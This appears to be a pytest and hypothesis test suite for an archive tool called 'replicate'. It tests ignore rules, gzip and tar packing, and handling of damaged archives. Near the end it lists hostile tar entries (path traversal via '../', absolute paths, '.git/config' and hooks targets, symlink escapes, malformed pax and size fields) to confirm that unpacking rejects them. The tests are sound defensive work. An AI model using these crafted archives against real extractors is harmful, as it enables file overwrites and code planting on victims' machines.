    """The content of one file through the table of contents, or None."""
    with replicate.reading_archive(repository, "checkpoints", PACKED_ID):
        target = io.BytesIO()
        found = repository.archive("checkpoints", PACKED_ID).copy_file(name, PACKED_ID, target)
        return target.getvalue() if found else None


def store_bytes(tmp_path, data):
    """A repository whose one archive has these bytes."""
    repository = replicate.Repository("file://%s" % (tmp_path / "store"))
    repository.storage.write(PACKED_KEY, data)
    return repository


IGNORE_NAMES_OF_FILES = ["a", "b", "ab", "a b", "a ", "#a", "!a", "[a]", "a.b", "A", "-", "]", "*", "?", "\u00e9", "1", "aab", "^"]
IGNORE_PATTERNS = st.lists(st.sampled_from(
    ["a", "b", "a", "b", "/", "/", "*", "**", "**/", "/**", "/**/", "?", "[ab]", "[!a]", "[^a]", "[a-b]", "[", "]", "!", "\\", "\\ ",
     "\\*", "\\[", "\\]", " ", "#", "\\#", "\\!", ".", "-", "[]a]", "[!]a]", "[a-", "[b-a]", "[\\]]", "[[:alpha:]]", "[[:digit:]",
     "[![:upper:]]", "[[:nope:]]", "[a/b]", "[--/]", "\u00e9", "{a,b}", "\t", "\r", "***", "[\\a-b]", "[[:al]", "1", "[*]", "[?-]",
     "^"]), min_size=1, max_size=6).map("".join)


@pytest.fixture
def git_repository(tmp_path):
    if not shutil.which("git"):
        pytest.skip("needs git")
    directory = tmp_path / "git"
    directory.mkdir()
    subprocess.run(["git", "init", "-q", str(directory)], check=True, capture_output=True)
    return directory


@hypothesis.given(st.lists(IGNORE_PATTERNS, min_size=1, max_size=5),
                  st.lists(st.lists(st.sampled_from(IGNORE_NAMES_OF_FILES), min_size=1, max_size=4).map("/".join),
                           min_size=1, max_size=12), st.sampled_from(["\n", "\n", "\r\n"]))
@hypothesis.settings(max_examples=300)
@hypothesis.example(["*", "!a"], ["a", "b/a"], "\n")
@hypothesis.example(["**/a/**/b"], ["a/b", "a/1/b", "1/a/ab/aab/b", "b"], "\n")
@hypothesis.example(["a\\ ", "b  "], ["a ", "a", "b"], "\n")
@hypothesis.example(["/a", "b/", "!b/a"], ["a", "1/a", "b/a", "1/b"], "\n")
@hypothesis.example(["a/*", "!a/b"], ["a/b", "a/1", "1/a/b"], "\n")
@hypothesis.example(["[!]a-b]", "\\!a", "\\#a"], ["a", "]", "!a", "#a", "1"], "\n")
@hypothesis.example(["*.log", "!keep.log", "build/", "/top", "docs/**/*.txt", "# comment", "\\#hash", "[Tt]emp?", "trailing ", "space\\ ",
                     "**/deep/x", "data/*", "!data/k/"],
                    ["a.log", "keep.log", "sub/keep.log", "build/a", "sub/build/b", "buildx", "top", "sub/top", "docs/a.txt",
                     "docs/b/c/d.txt", "docs/e.md", "#hash", "Temp1", "temp", "tempX/y", "trailing", "trailing ", "space", "space ",
                     "deep/x", "p/q/deep/x", "data/a", "data/k/b", "sub/data/a", "# comment"], "\n")
def test_ignoring_is_what_git_does(git_repository, patterns, names, end):
    for entry in os.listdir(str(git_repository)):
        if entry != ".git":
            path = git_repository / entry
            shutil.rmtree(str(path)) if path.is_dir() else path.unlink()
    for name in names:
        with contextlib.suppress(OSError):  # a file and a directory of one name
            fill(git_repository, {name: b""})
    (git_repository / ".replicateignore").write_bytes(end.join(patterns).encode())
    kept = subprocess.run(["git", "-c", "core.excludesFile=/dev/null", "ls-files", "-o", "-z", "-X", ".replicateignore"],
                          cwd=str(git_repository), check=True, capture_output=True).stdout
    assert source_names(git_repository) == sorted(os.fsdecode(name) for name in kept.split(b"\0") if name)


def test_ignore_files_of_either_name_in_the_project_and_the_saved_directory(project):
    fill(project, {".replicateignore": b"*.a\ndata/top\n", ".keepsakeignore": b"*.b\n", "data/.keepsakeignore": b"*.c\n/in\n!x.a\n",
                   "data/sub/.replicateignore": b"*.d\n"})
    fill(project / "data", {name: b"" for name in ("x.a", "y.a", "x.b", "x.c", "x.d", "in", "sub/in", "sub/x.c", "sub/x.d", "top")})
    assert source_names(project, "data") == ["data/.keepsakeignore", "data/sub/.replicateignore", "data/sub/in",
                                             "data/sub/x.d", "data/x.a", "data/x.d"]
    assert "data/x.c" in source_names(project) and "data/x.a" not in source_names(project)
    assert source_names(project, "data/x.b") == ["data/x.b"]


def test_what_is_never_saved(project):
    fill(project, {name: b"x" for name in (
        "keep.py", ".replicate/storage/x", ".keepsake/x", ".git/config", "sub/.git/config", ".mypy_cache/x", "sub/__pycache__/m.pyc",
        ".ipynb_checkpoints/n.ipynb", ".env", "sub/.env", ".env.local", ".envrc", "environment/x", "venv/pyvenv.cfg", "venv/lib/m.py",
        "conda/conda-meta/history", "conda/lib/x", ".replicate-checkout-abc/x", "sub/keep", "git", "repo/repository.json")})
    assert source_names(project, excluded=[str(project / "repo")]) == [".envrc", "environment/x", "git", "keep.py", "replicate.yaml",
                                                                      "sub/keep"]
    for path in (".git", ".git/config", "sub/.env", ".replicate/storage"):
        with pytest.raises(ValueError, match="never saved"):
            source_names(project, path)


def test_what_jobs_and_frameworks_write_is_not_code(project):
    fill(project, {name: b"x" for name in (
        "slurm-12.out", "jobs/slurm-12_3.out", "nohup.out", "runs/a/events.out.tfevents.1.host.2.0",
        "lightning_logs/version_0/metrics.csv", "wandb/run-1/x", "mlruns/0/meta.yaml",
        "outputs/2026-01-31/12-00-00/.hydra/config.yaml", "multirun/2026-01-31/12-00-00/0/train.log", "outputs/table.py",
        "start/checkpoint-32/model.safetensors", "slurm-job.sh", "train.py")})
    code = ["outputs/table.py", "replicate.yaml", "slurm-job.sh", "start/checkpoint-32/model.safetensors", "train.py"]
    assert [source.name for source in replicate.Project().files_to_save(".")] == code
    assert len(source_names(project)) == 14, "a checkpoint takes them all"
    fill(project, {".replicateignore": b"!wandb/\n"})
    assert [source.name for source in replicate.Project().files_to_save(".")] == [".replicateignore"] + code + ["wandb/run-1/x"]


def test_links_fifos_and_sockets(project, tmp_path):
    fill(tmp_path, {"outside/file": b"outside", "outside/dir/x": b""})
    fill(project, {"real": b"content", "dir/x": b"x"})
    for name, target in (("link", "real"), ("far", str(tmp_path / "outside/file")), ("dirlink", "dir"),
                         ("dangling", "nowhere"), ("loop", "loop")):
        os.symlink(target, name)
    os.mkfifo("fifo")
    os.mkfifo(".replicateignore")
    warnings = []
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("socket")
        assert source_names(project, warn=warnings.append) == ["dir/x", "far", "link", "real", "replicate.yaml"]
    assert [re.match(r"\w+", warning).group() for warning in warnings] == ["dangling", "dirlink", "loop"]
    assert "link to a directory" in warnings[1]
    files, warnings = packed_and_read(tmp_path, replicate.find_sources(str(project), "."))
    assert files["link"] == b"content" and files["far"] == b"outside" and warnings == []
    with tarfile.open(str(tmp_path / "store/checkpoints" / (PACKED_ID + ".tar.gz"))) as archive:
        assert all(member.isreg() for member in archive)


def test_paths_are_relative_to_the_project(project, tmp_path):
    fill(project, {"a/b": b""})
    fill(tmp_path, {"outside": b""})
    os.symlink(str(project), str(tmp_path / "linked"))
    relative = lambda path: replicate.relative_path(path, str(project))  # noqa: E731
    for path, wanted in [("a", "a"), ("a/", "a"), ("./a/../a/b", "a/b"), (".", "."), (str(project / "a"), "a"), (Path("a/b"), "a/b"),
                         (str(project), "."), (str(tmp_path / "linked/a/b"), "a/b"), ("../project/a", "a")]:
        assert relative(path) == wanted
    for path in ("", "..", "../outside", str(tmp_path / "outside"), "/", "missing", "a/missing", "a\0b"):
        with pytest.raises(ValueError):
            relative(path)
    for path in (None, 3, b"a", ["a"]):
        with pytest.raises((TypeError, ValueError)):
            relative(path)


@pytest.mark.parametrize("compress", [True, False])
def test_archives_and_the_checksums_of_their_files_are_read_back_by_everyone(project, tmp_path, compress):
    noise = os.urandom(1 << 20)
    files = {"empty": b"", "small.py": b"print(1)\n" * 30, "sub/deep/er/x": b"x", "noise.bin": noise * 9 + b"!",
             "zeros.bin": bytes(13 << 20), "text.txt": b"The quick brown fox.\n" * 300000, "n" * 200 + "/" + "m" * 150: b"long",
             "\u4e2d\u6587 \U0001f600": b"name", "exact": noise * 4, "one more": noise * 4 + b"1",
             "bytes\udcff\udcfe": b"latin", "new\nline": b"n", "-dash": b"-", " space ": b"s"}
    fill(project, files)
    (project / "replicate.yaml").unlink()
    os.chmod(str(project / "small.py"), 0o755)
    repository = pack_tree(tmp_path, project, compress=False)
    path = archive_path(repository)
    plain_size = os.stat(path).st_size
    assert plain_size > 35 << 20
    if compress:
        replicate.shrink_archive(repository.storage, "checkpoints", PACKED_ID)
        assert os.stat(path).st_size < min(32 << 20, plain_size - (18 << 20))
        again = pack_tree(tmp_path, project, name="again")
        assert Path(archive_path(again)).read_bytes() == Path(path).read_bytes()
    archive = repository.archive("checkpoints", PACKED_ID)
    table = archive.table
    assert len(table.members) > 8 and sorted(name for name, *_ in table.files) == sorted(files)
    sums = {name: (len(content), zlib.crc32(content)) for name, content in files.items()}
    assert archive.sums(PACKED_ID) == sums
    archive.table = None
    assert archive.sums(PACKED_ID) == sums
    assert read_archive(repository) == files
    for name, content in files.items():
        assert read_one(repository, name) == content
    assert read_one(repository, "missing") is None and read_one(repository, "sub") is None
    subprocess.run(["gzip", "-t", path], check=True)
    with tarfile.open(path, errors="surrogateescape") as archive:
        assert {member.name[65:]: archive.extractfile(member).read() for member in archive} == files
    with gzip.open(path) as stream:
        assert len(stream.read()) == sum(size for _, size in table.members)
    target = tmp_path / "unpacked"
    target.mkdir()
    subprocess.run(["tar", "xzf", path, "-C", str(target)], check=True)
    assert tree(target / PACKED_ID) == files
    assert os.stat(str(target / PACKED_ID / "small.py")).st_mode & 0o777 == 0o755


@hypothesis.given(data=st.binary(min_size=1, max_size=70000) | st.builds(
    lambda piece, count: piece * count, st.binary(min_size=1, max_size=40), st.integers(1, 9000)))
@hypothesis.settings(max_examples=60)
def test_members_are_gzip(data):
    for member in (replicate.gzip_member(data), replicate.stored_member(data)):
        assert gzip.decompress(member) == data and replicate.inflate_member(member, len(data)) == data
    assert len(replicate.stored_member(data)) == replicate.stored_size(len(data)) >= len(replicate.gzip_member(data))


class Trickle(io.BytesIO):
    """A file that is read a few bytes at a time."""

    def read(self, size=-1):
        return super().read(min(size, 7 if self.tell() < 500 else 5000))


@st.composite
def gzip_members(draw):
    """(the bytes of a gzip member, its content), with any of the optional fields of the header."""
    content = draw(st.binary(max_size=300) | st.just(bytes(range(256)) * 300))
    flags, fields = 0, b""
    if draw(st.booleans()):
        extra = draw(st.binary(max_size=40))
        flags, fields = flags | 4, fields + len(extra).to_bytes(2, "little") + extra
    for flag in (8, 16):
        if draw(st.booleans()):
            flags, fields = flags | flag, fields + draw(st.binary(max_size=20)).replace(b"\0", b"") + b"\0"
    header = b"\x1f\x8b\x08%c\1\2\3\4\0\xff" % (flags | 2) + fields
    if draw(st.booleans()):
        header += (zlib.crc32(header) & 0xffff).to_bytes(2, "little")
    else:
        header = header[:3] + bytes([flags]) + header[4:]
    packer = zlib.compressobj(draw(st.sampled_from([0, 1, 9])), zlib.DEFLATED, -15)
    return (header + packer.compress(content) + packer.flush() + zlib.crc32(content).to_bytes(4, "little") +
            len(content).to_bytes(4, "little"), content)


@hypothesis.given(members=st.lists(gzip_members(), min_size=1, max_size=3), zeros=st.integers(0, 20), data=st.data())
@hypothesis.settings(max_examples=100)
def test_gzip_files_of_others_are_read_and_checked(members, zeros, data):
    whole = b"".join([member for member, _ in members]) + bytes(zeros)
    content = b"".join([content for _, content in members])
    assert gzip.decompress(whole) == content
    assert b"".join(replicate.gunzip(io.BytesIO(whole))) == content
    assert b"".join(replicate.gunzip(Trickle(whole))) == content
    cut = data.draw(st.integers(1, len(members[-1][0]) - 1))
    with pytest.raises(EOFError):
        list(replicate.gunzip(Trickle(whole[:len(whole) - zeros - cut])))
    trailer = len(whole) - zeros - 8
    place = trailer + data.draw(st.integers(0, 7))
    with pytest.raises(zlib.error, match="incorrect (data|length) check"):
        list(replicate.gunzip(io.BytesIO(whole[:place] + bytes([whole[place] ^ 1]) + whole[place + 1:])))
    for other in (b"PK\3\4" + whole, b"\x1f\x8c" + whole[2:], whole[:2] + b"\7" + whole[3:], whole[:3] + b"\x80" + whole[4:],
                  whole + b"xx"):
        with pytest.raises(zlib.error):
            list(replicate.gunzip(io.BytesIO(other)))


def test_the_background_reads_what_shrinks_once(project, tmp_path, counted_reads):
    size = 16 << 20
    fill(project, {"tokens": os.urandom(size // 16).hex().encode() * 8})
    storage = replicate.DiskStorage(str(tmp_path / "store"))
    assert replicate.save_archive(storage, "checkpoints", PACKED_ID, replicate.find_sources(str(project), "tokens"))[1]
    counted_reads.clear()
    replicate.shrink_archive(storage, "checkpoints", PACKED_ID)
    assert size < sum(counted_reads) < size * 1.02
    assert os.path.getsize(storage.path("checkpoints/%s.tar.gz" % PACKED_ID)) < 0.7 * size


def test_an_archive_that_is_removed_just_before_its_smaller_copy_takes_its_place_stays_removed(project, tmp_path, monkeypatch):
    fill(project, {"tokens": bytes(1 << 20)})
    storage = replicate.DiskStorage(str(tmp_path / "store"))
    replicate.save_archive(storage, "checkpoints", PACKED_ID, replicate.find_sources(str(project), "tokens"))
    move_in = storage._move_in

    def remove_first(path, key):
        storage.delete([key] + [entry.key for entry in storage.list("tmp/")])
        move_in(path, key)

    monkeypatch.setattr(storage, "_move_in", remove_first)
    with pytest.raises(replicate.DoesNotExist):
        replicate.shrink_archive(storage, "checkpoints", PACKED_ID)
    assert list(storage.list("checkpoints/")) == []


def test_a_table_that_spans_several_fields(project, tmp_path):
    names = ["%s/%s" % (os.urandom(2).hex(), os.urandom(40).hex()) for _ in range(4000)]
    fill(project, {name: name[:4].encode() for name in names})
    repository = pack_tree(tmp_path, project)
    archive = repository.archive("checkpoints", PACKED_ID)
    assert archive.table.encode().count(replicate.GZIP_EXTRA_HEADER) >= 3
    assert len(archive.table.encode()) > 2 * 65535
    assert {name for name, *_ in archive.table.files} == set(names) | {"replicate.yaml"}
    for name in names[::500]:
        assert read_one(repository, name) == name[:4].encode()
    subprocess.run(["gzip", "-t", archive_path(repository)], check=True)
    with tarfile.open(archive_path(repository)) as stream:
        assert len(stream.getnames()) == 4001


@pytest.fixture
def counted_reads(monkeypatch):
    """The numbers of bytes that the system calls for reading return, in a list."""
    counts = []

    def counted(function):
        def call(*arguments):
            result = function(*arguments)
            counts.append(len(result))
            return result
        return call

    monkeypatch.setattr(os, "pread", counted(os.pread))
    monkeypatch.setattr(replicate.RegularFile, "read", counted(io.FileIO.read))
    return counts


def test_reading_one_file_touches_few_bytes(project, tmp_path, counted_reads):
    fill(project, {"a%d" % number: os.urandom(5 << 20) for number in range(6)})
    fill(project, {"m/%03d" % number: b"%d" % number * 100 for number in range(300)})
    repository = pack_tree(tmp_path, project)
    size = os.stat(archive_path(repository)).st_size
    assert size > 30 << 20
    counted_reads.clear()
    assert read_one(repository, "m/123") == b"123" * 100
    assert 0 < sum(counted_reads) < 1 << 20
    counted_reads.clear()
    assert len(read_one(repository, "a3")) == 5 << 20
    assert 5 << 20 < sum(counted_reads) < (5 << 20) + (1 << 20) + (1 << 19)
    counted_reads.clear()
    assert len(read_archive(repository)) == 307
    assert 30 << 20 < sum(counted_reads) < size + (1 << 20)


def test_files_with_very_long_names_are_read_singly(project, tmp_path):
    name = "/".join(["d" * 250] * 13 + ["x" * 100])
    content = os.urandom((4 << 20) - 4400)
    try:
        fill(project, {name: content})
    except OSError:
        pytest.skip("such names are too long here")
    repository = pack_tree(tmp_path, project, "d" * 250)
    assert read_archive(repository) == {name: content}
    assert read_one(repository, name) == content


def packed_and_read(tmp_path, sources):
    """(files, warnings) of packing sources that are not what they were, into an archive that tar reads too."""
    warnings, repository = [], replicate.Repository("file://%s" % (tmp_path / "store"))
    repository.storage.create(PACKED_KEY, lambda file: replicate.pack(file, PACKED_ID, sources, warnings.append))
    subprocess.run(["tar", "tzf", archive_path(repository)], check=True, stdout=subprocess.DEVNULL)
    assert repository.archive("checkpoints", PACKED_ID).table is not None
    return read_archive(repository), warnings


@pytest.mark.parametrize("size", [1000, 3 << 20])
@pytest.mark.parametrize("times", [1, 2])
def test_a_file_that_changes_while_it_is_read_is_read_once_more(project, tmp_path, monkeypatch, size, times):
    """A copy that mixes old and new content is never silent."""
    fill(project, {"a": b"0" * size, "b": b"b"})
    sources = replicate.find_sources(str(project), ".")
    changes = []
    real, inode = os.fstat, os.stat("a").st_ino

    def fstat(descriptor):
        status = real(descriptor)
        if status.st_ino == inode:
            changes.append(1)
            if len(changes) % 2 == 0 and len(changes) // 2 <= times:  # between looking and reading
                with open("a", "r+b") as file:
                    file.seek(size // 2)
                    file.write(b"%d" % len(changes) * (size // 2))
                os.utime("a", ns=(len(changes), len(changes)))
        return status

    monkeypatch.setattr(os, "fstat", fstat)
    files, warnings = packed_and_read(tmp_path, sources)
    assert files["b"] == b"b" and len(files["a"]) >= size
    if times == 1:
        assert warnings == [] and files["a"] == (project / "a").read_bytes()
    else:
        assert len(warnings) == 1 and warnings[0].startswith("a changed while it was saved")


@pytest.mark.parametrize("size", [1000, 1 << 20])
@pytest.mark.parametrize("change, content", [
    (lambda: os.truncate("a", 10), b"a" * 10), (lambda: fill(".", {"a": b"A" * (17 << 20)}), b"A" * (17 << 20)),
    (lambda: os.mkfifo("a"), None), (lambda: os.symlink("secret", "a"), None), (lambda: os.mkdir("a"), None),
    (lambda: socket.socket(socket.AF_UNIX).bind("a"), None), (lambda: None, None)],
    ids=["shorter", "longer", "fifo", "link", "directory", "socket", "nothing"])
def test_a_file_that_has_changed_is_saved_as_it_is_and_anything_else_is_not(project, tmp_path, size, change, content):
    fill(project, {"a": b"a" * size, "b": b"b" * size, "secret": b"s"})
    sources = replicate.find_sources(str(project), ".")
    if content is None:
        os.unlink("a")
    change()
    files, warnings = packed_and_read(tmp_path, sources)
    assert files.pop("a", None) == content and files.pop("replicate.yaml")
    assert files == {"b": b"b" * size, "secret": b"s"}
    assert [warning.partition(": ")[0] for warning in warnings] == ["a is not saved"] * (content is None)


def small_archive(project, tmp_path):
    """An archive of several gzip members with a table, a few kilobytes long; returns (repository, files, bytes)."""
    files = {"a": b"alpha " * 50, "sub/b": bytes(number * number * 7919 >> 5 & 255 for number in range(700)), "sub/c": b"gamma" * 20, "z": b"omega" * 100}
    fill(project, files)
    (project / "replicate.yaml").unlink()
    sources = replicate.find_sources(str(project), ".")
    for source in sources:
        os.utime(source.path, (1136214245, 1136214245))
    with open(str(tmp_path / "made"), "w+b", 0) as file:
        writer = replicate.ArchiveWriter(file)
        for source in sources:  # one gzip member a file, as pack makes them of larger files
            ((name, _, size, crc),), length, member, _ = replicate.pack_group(PACKED_ID, [source], [])
            writer.table.files.append((name, writer.offset, size, crc))
            writer.add(member, length)
        writer.add(replicate.gzip_member(bytes(1024)), 1024)
        writer.finish()
    data = (tmp_path / "made").read_bytes()
    repository = store_bytes(tmp_path, data)
    assert repository.archive("checkpoints", PACKED_ID).table is not None
    assert read_archive(repository) == files
    return repository, files, data


def answers(repository, files):
    """What a damaged archive gives: the right content or a ReadError, singly and all together."""
    try:
        assert read_archive(repository) == files
    except replicate.ReadError as error:
        assert "ababab" in str(error)
    for name, content in files.items():
        with contextlib.suppress(replicate.ReadError):
            assert read_one(repository, name) == content


@pytest.mark.parametrize("damage", [
    lambda data, at: data[:at], lambda data, at: data[:at] + bytes([data[at] ^ 1 << (at % 8)]) + data[at + 1:]],
    ids=["truncated", "one bit flipped"])
def test_every_damage_is_a_read_error_or_harmless(project, tmp_path, damage):
    repository, files, data = small_archive(project, tmp_path)
    for position in range(len(data)):
        Path(archive_path(repository)).write_bytes(damage(data, position))
        answers(repository, files)


def table_start(data):
    end = len(data) - len(replicate.GZIP_EMPTY_BODY)
    return int.from_bytes(data[end - 16:end - 8], "little")


def write_table(repository, data, *fields):
    """Give the archive a table of contents of these fields, in as many members as they need, with a right footer."""
    start = table_start(data)
    chain = b"".join(replicate._extra_member(field[at:at + replicate.MAX_FIELD_BYTES])
                     for field in fields for at in range(0, max(1, len(field)), replicate.MAX_FIELD_BYTES))
    footer = replicate._extra_member(start.to_bytes(8, "little") + len(chain).to_bytes(8, "little"))
    Path(archive_path(repository)).write_bytes(data[:start] + chain + footer)


def test_a_lying_table_never_shows_wrong_content(project, tmp_path):
    repository, files, data = small_archive(project, tmp_path)
    table = repository.archive("checkpoints", PACKED_ID).table
    first, second, *others = table.members
    listed = table.files
    offsets = {name: offset for name, offset, *_ in listed}
    places = [lambda offset, size: (offsets["a"], size), lambda offset, size: (offset + 512, size),
              lambda offset, size: (-512, size), lambda offset, size: (1 << 60, size), lambda offset, size: (offset, 0),
              lambda offset, size: (offset, -5000), lambda offset, size: (offset, 1 << 60)]
    lies = [(table.members, [(name, *place(offset, size), crc) for name, offset, size, crc in listed]) for place in places] + [
        (table.members, []), (table.members, [("elsewhere", 0, 5, 0)] + listed),
        ([(compressed, size + 1) for compressed, size in table.members], listed),
        ([(compressed, 1) for compressed, _ in table.members], listed),
        ([(sum(compressed for compressed, _ in table.members), sum(size for _, size in table.members))], listed),
        ([(compressed, size) for (compressed, _), (_, size) in zip(table.members, table.members[::-1])], listed),
        ([(first[0] + 1, first[1]), (second[0] - 1, second[1]), *others], listed)]
    for members, entries in lies:
        Path(archive_path(repository)).write_bytes(data[:table_start(data)] + replicate.Table(members, entries).encode())
        assert read_archive(repository) == files
        answers(repository, files)
        assert read_one(repository, "elsewhere") is None


@pytest.mark.parametrize("content", [
    b"", b"null", b"[]", b"{}", b'"members"', b'{"members": 1, "files": []}', b'{"members": [[1]], "files": []}',
    b'{"members": [], "files": [["a", 1e999, 0, 0]]}', b'{"members": [["x", 1]], "files": []}', b"\xff", b"[" * 50000,
    b'{"members": [], "files": {"abc": 1}}', b'{"members": [], "files": [["a", null, 0, 0]]}', b"9" * 6000,
    b'{"members": [], "files": [["a", 0, ' + b"9" * 6000 + b", 0]]}"])
def test_a_table_of_nonsense_is_not_believed(project, tmp_path, content):
    repository, files, data = small_archive(project, tmp_path)
    start = table_start(data)
    assert start == sum(compressed for compressed, _ in repository.archive("checkpoints", PACKED_ID).table.members)
    for packed in (zlib.compress(content), content, zlib.compress(content)[:-3]):
        write_table(repository, data, packed)
        answers(repository, files)
    for footer in (bytes(16), b"\xff" * 16, start.to_bytes(8, "little") + bytes(8), (start + 1).to_bytes(8, "little") * 2):
        Path(archive_path(repository)).write_bytes(data[:start] + replicate._extra_member(footer))
        answers(repository, files)


@pytest.mark.parametrize("fields", [
    lambda: [b""] * 100000, lambda: [zlib.compress(b'{"files": [], "members": [[1,1]' + b",[1,1]" * 2500000 + b"]}")]],
    ids=["very many empty fields", "enough to fill the memory"])
def test_a_table_that_costs_much_is_passed_over(project, tmp_path, monkeypatch, fields):
    repository, files, data = small_archive(project, tmp_path)
    write_table(repository, data, *fields())
    parsed = []
    with monkeypatch.context() as patch:
        patch.setattr(replicate.json, "loads", parsed.append)
        assert repository.archive("checkpoints", PACKED_ID).table is None and not any(parsed)
    assert read_archive(repository) == files


@hypothesis.given(st.data())
@hypothesis.settings(max_examples=300)
def test_mutated_archives_give_the_right_content_or_a_read_error(tmp_path_factory, data):
    tmp_path = tmp_path_factory.getbasetemp() / "mutated"
    project = tmp_path / "project"
    shutil.rmtree(str(project), ignore_errors=True)
    fill(project, {"replicate.yaml": b""})
    repository, files, packed = small_archive(project, tmp_path)
    damaged = bytearray(packed)
    for _ in range(data.draw(st.integers(1, 4))):
        position = data.draw(st.integers(0, max(0, len(damaged) - 1)))
        damaged[position:position + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=3))
    Path(archive_path(repository)).write_bytes(damaged)
    answers(repository, files)


@pytest.mark.parametrize("data", [b"x", b"\x1f\x8b", b"PK\x03\x04" + bytes(600), gzip.compress(b"x" * 2000), gzip.compress(b"x" * 100),
                                  gzip.compress(bytes(512) + b"x")[:-1], gzip.compress(bytes(1024))[:-4]], ids="text magic zip xs short torn cut".split())
def test_what_is_no_archive_is_a_read_error(tmp_path, data):
    with pytest.raises(replicate.ReadError, match="checkpoint ababab"):
        read_archive(store_bytes(tmp_path, data))


def tar_block(name, content=b"", kind=tarfile.REGTYPE, size=None, link="", mode=0o644):
    """One member of a tar as bytes; name may be anything."""
    member = tarfile.TarInfo(name)
    member.type, member.linkname, member.mode = kind, link, mode
    member.size = len(content) if size is None else size
    return member.tobuf(tarfile.GNU_FORMAT, "utf-8", "surrogateescape") + content + bytes(-len(content) % 512)


def long_name(name):
    """The name, as bytes, of the member that follows."""
    return tar_block("L", name, tarfile.GNUTYPE_LONGNAME)


def raw_header(**fields):
    """A header block with these bytes at their places and a right checksum."""
    block = bytearray(tar_block(PACKED_ID + "/a")[:512])
    for place, value in fields.items():
        start = {"name": 0, "size": 124, "type": 156, "link": 157, "prefix": 345}[place]
        block[start:start + len(value)] = value
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def pax_record(key, value):
    body = b" " + key + b"=" + value + b"\n"
    length = len(body)
    while len(b"%d" % length + body) != length:
        length = len(b"%d" % length + body)
    return b"%d" % length + body


def pax_block(*records, kind=tarfile.XHDTYPE):
    return tar_block("pax", b"".join(records), kind)


HOSTILE_NAMES = [
    "/etc/evil", "../evil", "{id}/../evil", "{id}/../../evil", "{id}/a/../../evil", "{id}/./evil", "{id}//evil", "evil", "other/evil",
    "{id}x/evil", "/{id}/evil", "./{id}/evil", "{id}\\evil", "{id}/a\\..\\..\\evil", "{id}/C:evil", "{id}/c:/evil", "{id}/.git/config",
    "{id}/.GIT/config", "{id}/sub/.gIt/hooks/x", "{id}/.git", "{id}/.git./config", "{id}/.git /config", "{id}/git~1/config",
    "{id}/.g\u200cit/config", "{id}/.git::$INDEX_ALLOCATION/config", "{id}/.replicate/storage/x", "{id}/.Replicate/x",
    "{id}/.replicate", "{id}/" + "x" * 300, "", "/", "{id}/..", "{id}/a/.."]


def refused(tmp_path, tar):
    """Assert that this tar is refused and writes nothing outside of its target; returns what it left there."""
    repository = store_bytes(tmp_path, gzip.compress(tar))
    target = tmp_path / "store/a/target"
    target.mkdir(parents=True)
    before = snapshot(tmp_path)
    with pytest.raises(replicate.ReadError):
        unpack_all(repository, target)
    left = snapshot(target)
    assert snapshot(tmp_path) == {**before, **{"store/a/target/" + name: content for name, content in left.items()}}
    assert not [content for content in left.values() if isinstance(content, tuple)]  # links
    return left


@pytest.mark.parametrize("name", HOSTILE_NAMES)
@pytest.mark.parametrize("member", [
    lambda name: tar_block(name, b"evil"), lambda name: tar_block(name, b"", tarfile.DIRTYPE),
    lambda name: long_name(name.encode() + b"\0") + tar_block(PACKED_ID + "/x", b"evil"),
    lambda name: pax_block(pax_record(b"path", name.encode())) + tar_block(PACKED_ID + "/x", b"evil")],
    ids=["plain", "directory", "gnu long name", "pax path"])
def test_dangerous_names_are_read_errors(tmp_path, name, member):
    named = member(name.replace("{id}", PACKED_ID))
    assert set(refused(tmp_path, tar_block(PACKED_ID + "/good", b"good") + named + bytes(1024))) <= {"good"}


def unpack_all(repository, target):
    with replicate.reading_archive(repository, "checkpoints", PACKED_ID):
        archive = repository.archive("checkpoints", PACKED_ID)
        return replicate.unpack_to(str(target), archive.files(lambda name: True, PACKED_ID))


HOSTILE_TARS = {
    "a name through a link": tar_block(PACKED_ID + "/d", kind=tarfile.SYMTYPE, link="..") + tar_block(PACKED_ID + "/d/evil", b"evil"),
    "a file below a file": tar_block(PACKED_ID + "/d", b"file") + tar_block(PACKED_ID + "/d/evil", b"evil"),
    "a file in place of a directory": tar_block(PACKED_ID + "/d/x", b"file") + tar_block(PACKED_ID + "/d", b"evil"),
    "a file in place of the folder": tar_block(PACKED_ID, b"evil"),
    "a negative size": raw_header(size=b"\xff" * 12) + b"x" * 512,
    "a negative size of an extended header": raw_header(size=b"\xff" * 12, type=b"x") + b"x" * 512,
    "a size that is no number": raw_header(size=b"zzzzzzzzzzz\0"),
    "an enormous size": raw_header(size=b"\x80" + b"\x7f" * 11) + b"x" * 512,
    "an enormous extended header": raw_header(size=b"77777777777\0", type=b"x"),
    "an enormous long name": raw_header(size=b"77777777777\0", type=b"L"),
    "a wrong checksum": tar_block(PACKED_ID + "/x")[:148] + b"0000000\0" + tar_block(PACKED_ID + "/x")[156:512],
    "a negative pax size": pax_block(pax_record(b"size", b"-512")) + tar_block(PACKED_ID + "/x", b"x"),
    "a pax size that is no number": pax_block(pax_record(b"size", b"1e3")) + tar_block(PACKED_ID + "/x", b"x"),
    "a pax size in other digits": pax_block(pax_record(b"size", "\u0661".encode())) + tar_block(PACKED_ID + "/x", b"x"),
    "a pax record of wrong length": tar_block("pax", b"99 path=x\n", tarfile.XHDTYPE) + tar_block(PACKED_ID + "/x", b"x"),
    "a pax record of no length": tar_block("pax", b"0 path=x\n", tarfile.XHDTYPE) + tar_block(PACKED_ID + "/x", b"x"),
    "pax of nonsense": tar_block("pax", b"nonsense", tarfile.XHDTYPE) + tar_block(PACKED_ID + "/x", b"x"),
    "a sparse pax member": pax_block(pax_record(b"GNU.sparse.major", b"1"), pax_record(b"GNU.sparse.minor", b"0"),
                                     pax_record(b"GNU.sparse.name", b"../../evil")) + tar_block(PACKED_ID + "/x", b"1\n0\n0\n"),
    "a sparse map": pax_block(pax_record(b"GNU.sparse.map", b"0,1")) + tar_block(PACKED_ID + "/x", b"x"),
    "a null in a long name": long_name((PACKED_ID + "/a\0/../b").encode()) + tar_block(PACKED_ID + "/x"),
    "a null in a pax name": pax_block(pax_record(b"path", PACKED_ID.encode() + b"/a\0b")) + tar_block(PACKED_ID + "/x"),
    "a prefix that leaves": raw_header(name=b"evil\0", prefix=b"../..\0"),
    "the end in the middle of a file": tar_block(PACKED_ID + "/x", b"x" * 5000)[:2048],
    "the end in the middle of a header": tar_block(PACKED_ID + "/x", b"x") + tar_block(PACKED_ID + "/y")[:100],
}
